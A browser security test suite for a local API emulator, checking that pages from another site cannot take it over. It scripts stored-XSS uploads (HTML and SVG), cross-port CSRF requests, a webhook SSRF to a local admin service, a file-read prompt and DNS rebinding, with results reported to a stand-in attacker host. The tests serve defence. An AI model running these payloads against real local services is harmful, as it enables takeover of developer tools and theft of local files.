// What a page of another site can do to an emulator on the developer's machine, in Chromium. Each
// attack runs to its end in the browser; then it is looked at what was read and what was changed.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { startEmulator } from '../clients/emulator.mjs';
import { adminService, evilSite, openBrowser, settled, visit } from './browser.mjs';

const secret = 'a line of a file beside the scenario';
let folder, emulator, site, browser;

before(async () => {
  folder = mkdtempSync(join(tmpdir(), 'emulator-doors-'));
  writeFileSync(join(folder, 'settings.txt'), secret);
  writeFileSync(join(folder, 'story.yaml'), 'name: story\nrules: []\n');
  [emulator, site, browser] = await Promise.all([
    startEmulator({ args: ['--scenario', join(folder, 'story.yaml')] }),
    evilSite(),
    openBrowser(),
  ]);
});

after(async () => {
  await browser?.close();
  await site?.close();
  await emulator?.stop();
  rmSync(folder, { recursive: true, force: true });
});

// What a script on the emulator's own origin would do with the control API, and tell its owner.
const takeOver = name => `${site.prelude}<script>(async () => {
  await home('${name} ran', location.origin);
  const list = await tried(async () => (await fetch('/_emulator/sandboxes')).json());
  const put = await tried(async () => (await fetch('/_emulator/sandboxes/${name}/scenario', {
    method: 'PUT', headers: { 'content-type': 'application/json' }, body: '{"name":"stuck"}' })).status);
  const reset = await tried(async () => (await fetch('/_emulator/sandboxes/${name}/clock', {
    method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"advance":"1h"}' })).status);
  await home('${name} stole', { list, put, reset });
})();</script>`;

// A victim's sandbox, and how to tell whether somebody touched it.
async function victim(name) {
  const box = emulator.sandbox(name);
  const clock = () => emulator.control('GET', `sandboxes/${name}/clock`);
  const story = () => emulator.control('GET', `sandboxes/${name}/scenario`);
  const before = (await clock()).now;
  return {
    box,
    async assertUntouched() {
      assert.equal((await clock()).now, before, 'somebody moved the clock');
      assert.equal((await story()).name, 'story', 'somebody changed the scenario');
    },
  };
}

// A page of another site uploads a file and returns its address.
async function uploaded(name, type, content) {
  const address = site.page(
    `/upload-${name}`,
    `<script>(async () => {
      const begun = await (await fetch('${emulator.base}/rest.fal.ai/storage/upload/initiate?storage_type=fal-cdn-v3', {
        method: 'POST', headers: { authorization: 'Key evil:secret', 'content-type': 'application/json' },
        body: JSON.stringify({ file_name: 'page', content_type: '${type}' }) })).json();
      // The answer to it cannot be read, which does not keep it from being done.
      await tried(() => fetch(begun.upload_url, {
        method: 'PUT', headers: { 'content-type': '${type}' }, body: ${JSON.stringify(content).replaceAll('</', '<\\/')} }));
      await home('upload ${name}', begun.file_url);
    })();</script>`,
  );
  const { context } = await visit(browser, address);
  const url = await site.sent(`upload ${name}`);
  await context.close();
  assert.equal(await (await fetch(url)).text(), content, 'the attack begins with an upload that works');
  return url;
}

test('an uploaded page takes over nothing: it is saved, not shown', async () => {
  const me = await victim('v1');
  const url = await uploaded('v1', 'text/html', takeOver('v1'));
  const { page, context, downloads } = await visit(browser, url);
  await settled(page);
  await context.close();
  assert.equal(site.has('v1 ran'), false, 'its script ran on the origin of the emulator');
  assert.equal(site.has('v1 stole'), false);
  assert.equal(downloads.length, 1);
  await me.assertUntouched();
});

test('an uploaded drawing with a script in it takes over nothing', async () => {
  const me = await victim('v2');
  const script = takeOver('v2').match(/<script>([^]*?)<\/script>/g).map(part => part.slice(8, -9)).join('\n');
  const url = await uploaded(
    'v2',
    'image/svg+xml',
    `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script}]]></script></svg>`,
  );
  const { page, context } = await visit(browser, url);
  await settled(page);
  await context.close();
  assert.equal(site.has('v2 ran'), false, 'its script ran on the origin of the emulator');
  await me.assertUntouched();
});

// Takes some headers away from what the emulator answers, as if they had been forgotten.
const without = (...names) => async page =>
  page.route('**/files/**', async route => {
    const response = await route.fetch();
    const headers = response.headers();
    for (const name of names) delete headers[name];
    await route.fulfill({ response, headers });
  });

test('were it shown, it would run no script', async () => {
  const me = await victim('v3');
  const url = await uploaded('v3', 'text/html', takeOver('v3'));
  const { page, context, downloads } = await visit(browser, url, without('content-disposition'));
  await settled(page);
  assert.equal(page.url(), url, 'the page was not shown, so this proves nothing');
  assert.equal(downloads.length, 0);
  await context.close();
  assert.equal(site.has('v3 ran'), false, 'its script ran on the origin of the emulator');
  await me.assertUntouched();
});

test('were it shown and run, the control API would not answer it', async () => {
  const me = await victim('v4');
  const url = await uploaded('v4', 'text/html', takeOver('v4'));
  const { context } = await visit(
    browser,
    url,
    without('content-disposition', 'content-security-policy'),
  );
  assert.equal(await site.sent('v4 ran'), emulator.base, 'its script did not run, so this proves nothing');
  const { list, put, reset } = await site.sent('v4 stole');
  await context.close();
  assert.equal(list.sandboxes, undefined);
  assert.equal(list.emulator_error?.code, 'not_our_page');
  assert.deepEqual([put, reset], [403, 403]);
  await me.assertUntouched();
});

test("a scenario's own page runs no script either", async () => {
  const me = await victim('v5');
  await emulator.control('PUT', 'sandboxes/scripted/scenario', {
    name: 'scripted',
    rules: [
      {
        when: { on: 'download' },
        then: { reply: { status: 200, headers: { 'content-type': 'text/html' }, body: takeOver('v5') } },
      },
    ],
  });
  const made = await fetch(`${emulator.base}/fal.run/fal-ai/flux/schnell`, {
    method: 'POST',
    headers: { authorization: 'Key scripted:secret', 'content-type': 'application/json' },
    body: JSON.stringify({ prompt: 'a [[run: 0s]]' }),
  });
  const { url } = (await made.json()).images[0];
  const { page, context } = await visit(browser, url, without('content-disposition'));
  await settled(page);
  assert.equal(page.url(), url, 'the page was not shown, so this proves nothing');
  await context.close();
  assert.equal(site.has('v5 ran'), false, 'its script ran on the origin of the emulator');
  await me.assertUntouched();
});

test('no page reads a file beside the scenario', async () => {
  const address = site.page(
    '/file',
    `<script>(async () => {
      const text = await tried(async () => {
        const made = await fetch('${emulator.base}/fal.run/fal-ai/flux/schnell', {
          method: 'POST', headers: { authorization: 'Key evil:secret', 'content-type': 'application/json' },
          body: JSON.stringify({ prompt: 'a [[image: {file: settings.txt}]]' }) });
        const said = await made.text();
        const url = JSON.parse(said).images?.[0]?.url;
        return url ? (await fetch(url)).text() : said;
      });
      await home('file', text);
    })();</script>`,
  );
  const { context } = await visit(browser, address);
  const text = await site.sent('file');
  await context.close();
  assert.equal(text.includes(secret), false, 'the page read the file');
  assert.match(text, /names no file|failed/);
});

// A page has a task made whose webhook goes to `admin`; returns what became of the webhook.
async function webhookFrom(at, address, name, url) {
  const { context } = await visit(
    browser,
    site.page(
      address,
      `<script>(async () => {
        const status = await tried(async () => (await fetch(
          '${at.base}/queue.fal.run/fal-ai/flux/dev?fal_webhook=' + encodeURIComponent('${url}'), {
            method: 'POST', headers: { authorization: 'Key ${name}:secret', 'content-type': 'application/json' },
            body: JSON.stringify({ prompt: 'a [[run: 0s]]' }) })).status);
        await home('webhook ${name}', status);
      })();</script>`,
    ),
  );
  assert.equal(await site.sent(`webhook ${name}`), 200, 'the attack begins with a task that is made');
  await context.close();
  await at.sandbox(name).advance('1h');
  const { webhooks } = await at.control('GET', `sandboxes/${name}/webhooks`);
  assert.equal(webhooks.length, 1);
  return webhooks[0];
}

test("a page's webhook reaches no service of this machine, unless the page is allowed", async () => {
  const admin = await adminService();
  let open;
  try {
    const closed = await webhookFrom(emulator, '/webhook', 'w1', admin.url);
    assert.deepEqual(admin.calls, [], 'the service was reached');
    assert.equal(closed.state, 'refused');
    assert.ok(closed.reason.includes(site.origin), closed.reason);
    open = await startEmulator({ args: ['--allow-origin', 'http://evil.example:*'] });
    const allowed = await webhookFrom(open, '/webhook-allowed', 'w2', admin.url);
    assert.deepEqual(admin.calls, ['POST /admin']);
    assert.equal(allowed.state, 'delivered');
  } finally {
    await open?.stop();
    await admin.close();
  }
});

test('a page of another port of this machine steers nothing', async () => {
  const neighbour = await evilSite('localhost');
  const me = await victim('v6');
  const base = `http://localhost:${emulator.port}`;
  try {
    const address = neighbour.page(
      '/steer',
      `<form id="form" method="post" enctype="text/plain" target="there" action="${base}/_emulator/sandboxes/v6/clock">
        <input name='{"advance":"1h","x":"' value='"}'></form><iframe name="there"></iframe>
      <script>(async () => {
        const to = '${base}/_emulator/sandboxes/v6';
        const done = [];
        for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json'])
          for (const mode of ['no-cors', 'cors'])
            for (const [call, body] of [['clock', '{"advance":"1h"}'], ['scenario', '{"name":"stuck"}'], ['reset', '{}']])
              done.push(await tried(async () => (await fetch(to + '/' + call, {
                method: call === 'scenario' && mode === 'cors' ? 'PUT' : 'POST', mode, body,
                headers: { 'content-type': type } })).type));
        navigator.sendBeacon(to + '/clock', '{"advance":"1h"}');
        const read = await tried(async () => (await fetch('${base}/_emulator/sandboxes')).text());
        const there = document.querySelector('iframe');
        const shown = new Promise(resolve => (there.onload = resolve));
        document.getElementById('form').submit();
        await shown;
        await home('steered', { done, read });
      })();</script>`,
    );
    const { page, context } = await visit(browser, address);
    const { done, read } = await neighbour.sent('steered');
    await settled(page);
    await context.close();
    assert.equal(done.length, 18);
    assert.ok(done.includes('opaque'), 'blind requests were not sent, so this proves nothing');
    assert.match(read, /^failed/);
    await me.assertUntouched();
  } finally {
    await neighbour.close();
  }
});

test('a name that was pointed at this machine is not answered', async () => {
  const rebound = `http://evil.example:${emulator.port}`;
  const address = site.page(
    '/rebound',
    `<script>(async () => {
      const submit = await tried(async () => (await fetch('${rebound}/fal.run/fal-ai/flux/schnell', {
        method: 'POST', headers: { authorization: 'Key w3:secret', 'content-type': 'application/json' },
        body: JSON.stringify({ prompt: 'a [[run: 0s]]' }) })).status);
      await home('rebound', submit);
    })();</script>`,
  );
  const first = await visit(browser, address);
  assert.notEqual(await site.sent('rebound'), 200);
  await first.context.close();
  assert.deepEqual(await emulator.sandbox('w3').tasks(), [], 'the page made a task');
  // The page itself, once its name leads here, is on the origin of the emulator.
  const second = await visit(browser, `${rebound}/bfl/v1/get_result?id=00000000-0000-0000-0000-000000000000`);
  const answers = await second.page.evaluate(async () => {
    const ask = async (path, options) => {
      const reply = await fetch(path, options);
      return { status: reply.status, ours: reply.headers.get('x-emulator-error') };
    };
    return [
      await ask('/fal.run/fal-ai/flux/schnell', {
        method: 'POST',
        headers: { authorization: 'Key w3:secret', 'content-type': 'application/json' },
        body: JSON.stringify({ prompt: 'a [[run: 0s]]' }),
      }),
      await ask('/_emulator/sandboxes'),
    ];
  });
  await second.context.close();
  assert.deepEqual(answers, [
    { status: 421, ours: 'foreign_host' },
    { status: 403, ours: 'foreign_host' },
  ]);
  assert.deepEqual(await emulator.sandbox('w3').tasks(), [], 'the page made a task');
});
